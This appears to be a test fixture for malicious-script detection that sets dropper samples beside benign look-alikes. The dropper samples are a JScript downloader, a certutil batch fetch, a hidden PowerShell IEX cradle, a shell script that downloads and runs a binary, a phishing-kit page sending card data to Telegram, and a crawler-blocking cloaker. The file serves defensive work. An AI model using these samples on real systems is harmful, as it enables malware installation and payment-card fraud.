"""Scripts as droppers write them, and honest ones that look alike; addresses are for documentation."""

HOST_DROPPER = b"""
var http = new ActiveXObject("MSXML2.XMLHTTP");
http.open("GET", "http://203.0.113.5/update.bin", false); http.send();
var held = new ActiveXObject("ADODB.Stream");
held.Type = 1; held.Open(); held.Write(http.responseBody);
held.SaveToFile("C:\\\\Users\\\\Public\\\\update.dat", 2);
new ActiveXObject("WScript.Shell").Run("C:\\\\Users\\\\Public\\\\update.dat");
"""
PAGE_SCRIPT = b"""
(function () {
  var request = new XMLHttpRequest();
  request.open("GET", "/api/messages.json");
  request.onload = function () { document.title = JSON.parse(request.responseText).title; };
  request.send();
})();
"""
BATCH_FETCH = b"""@echo off
certutil.exe -urlcache -split -f http://203.0.113.6/a.dat %TEMP%\\svch.exe
start "" /b "%TEMP%\\svch.exe"
reg add HKCU\\Software\\Example /v x /d 1 /f
"""
BATCH_BACKUP = b"""@echo off
xcopy C:\\Work D:\\Backup /s /y
certutil -hashfile D:\\Backup\\list.txt SHA256 > D:\\Backup\\list.sha256
start "" "D:\\Backup"
"""
POWERSHELL_FETCH = b"""powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -Command \
"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.8/s.ps1')"
"""
POWERSHELL_INSTALL = b"""# Fetches the published installer and checks it.
$ErrorActionPreference = "Stop"
Invoke-WebRequest -Uri "https://download.example.com/editor.msi" -OutFile editor.msi
if ((Get-FileHash editor.msi).Hash -ne $env:EXPECTED) { throw "the installer was changed" }
Start-Process msiexec.exe -ArgumentList "/i editor.msi" -Wait
"""
SHELL_FETCH = b"""#!/bin/sh
cd /tmp || cd /var/run
wget http://203.0.113.4/bins.arm -O .x
chmod 777 .x
./.x scan
rm -rf .x
"""
SHELL_INSTALL = b"""#!/bin/sh
set -eu
curl -fsSL https://download.example.com/tool.tar.gz -o tool.tar.gz
tar xzf tool.tar.gz
chmod +x tool/bin/tool
sudo cp -r tool /opt/tool
"""
KIT_PAGE = b"""<?php
$card = $_POST['card_no']; $cvv = $_POST['cvv']; $code = $_POST['sms_code'];
$text = $_SERVER['REMOTE_ADDR'] . " $card $cvv $code";
file_get_contents("https://api.telegram.org/bot0:token/sendMessage?chat_id=0&text=" . urlencode($text));
header('Location: wait.html');
"""
KIT_BLOCKER = b"""<?php
$who = gethostbyaddr($_SERVER['REMOTE_ADDR']);
foreach (array("phishtank", "netcraft", "googlebot", "kaspersky") as $each) {
  if (stripos($who, $each) !== false) { header('HTTP/1.0 404 Not Found'); exit; }
}
"""
CONTACT_PAGE = b"""<?php
$name = $_POST['name']; $address = $_POST['email']; $text = $_POST['message'];
if (!filter_var($address, FILTER_VALIDATE_EMAIL)) { exit('Please check the address.'); }
mail('office@example.com', "Message of $name", $text);
header('Location: thanks.html');
"""
LOGIN_PAGE = b"""<?php
session_start();
$user = find_user($_POST['name']);
if ($user && password_verify($_POST['password'], $user['hash'])) { $_SESSION['user'] = $user['id']; }
header('Location: index.php');
"""
